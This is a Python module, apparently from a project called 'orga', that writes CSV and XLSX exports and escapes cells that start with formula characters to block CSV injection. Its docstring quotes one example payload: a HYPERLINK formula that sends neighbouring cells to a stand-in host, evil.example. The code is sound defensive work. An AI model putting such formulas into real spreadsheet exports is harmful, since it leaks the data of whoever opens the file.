"""Files for spreadsheet programs: every CSV (:class:`CsvWriter`) or XLSX (:class:`XlsxWriter`)
orga writes goes through here.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel and LibreOffice when the file is opened (OWASP "CSV injection"): a name like
``=HYPERLINK("https://evil.example/?"&A1, "Klick")`` sends the neighbouring cells away. Such
text gets a leading apostrophe, which spreadsheet programs show as text and hide. Numbers stay
numbers (``-5`` is not a formula), dates are ISO 8601, lists and mappings are JSON text.

Readers (the people import) are not affected: they read cells as text and never evaluate them.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterable, AsyncIterator, Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import msgspec

__all__ = ["FORMULA_STARTS", "CsvWriter", "XlsxWriter", "safe_cell", "spreadsheet_stream"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str | int | float | Decimal:
    """``value`` as a cell that spreadsheet programs show and never run as a formula.

    ``None`` is empty, numbers stay numbers, dates and times are ISO 8601, lists and mappings
    JSON; any text starting with one of :data:`FORMULA_STARTS` gets a leading apostrophe.
    """
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return value
    if isinstance(value, (datetime, date)):
        text = value.isoformat()
    elif isinstance(value, (dict, list, tuple)):
        text = msgspec.json.encode(value).decode()
    else:
        text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class CsvWriter:
    """CSV text (Excel dialect) whose every cell went through :func:`safe_cell`.

    Write rows with :meth:`writerow`; :meth:`take` hands back what was written since the last
    call, so a long file can be streamed in pieces with flat memory.
    """

    def __init__(self) -> None:
        self._out = io.StringIO()
        self._writer = csv.writer(self._out)

    def writerow(self, values: Iterable[Any]) -> None:
        """Write one row (header or data)."""
        self._writer.writerow([safe_cell(v) for v in values])

    def take(self) -> str:
        """The text written since the last call."""
        text = self._out.getvalue()
        self._out.seek(0)
        self._out.truncate()
        return text


class XlsxWriter:
    """An XLSX workbook of one sheet (openpyxl's write-only mode, rows go out as they come)
    whose every cell went through :func:`safe_cell`.

    Write rows with :meth:`writerow`; :meth:`finish` hands back the file.
    """

    def __init__(self, sheet: str = "data") -> None:
        from openpyxl import Workbook

        self._book = Workbook(write_only=True)
        self._sheet = self._book.create_sheet(sheet)

    def writerow(self, values: Iterable[Any]) -> None:
        """Write one row (header or data)."""
        self._sheet.append([safe_cell(v) for v in values])

    def finish(self) -> bytes:
        """The workbook as the bytes of an ``.xlsx`` file."""
        out = io.BytesIO()
        self._book.save(out)
        return out.getvalue()


async def spreadsheet_stream(
    rows: AsyncIterable[Iterable[Any]], file_format: str, sheet: str = "data"
) -> AsyncIterator[bytes]:
    """``rows`` (header first) as the bytes of a formula-safe file to stream: CSV piece by
    piece as the rows come (``file_format`` ``"csv"``), else an XLSX workbook with one sheet
    named ``sheet``, in one piece once the last row is in."""
    if file_format == "csv":
        writer = CsvWriter()
        async for row in rows:
            writer.writerow(row)
            yield writer.take().encode()
        return
    book = XlsxWriter(sheet)
    async for row in rows:
        book.writerow(row)
    yield book.finish()
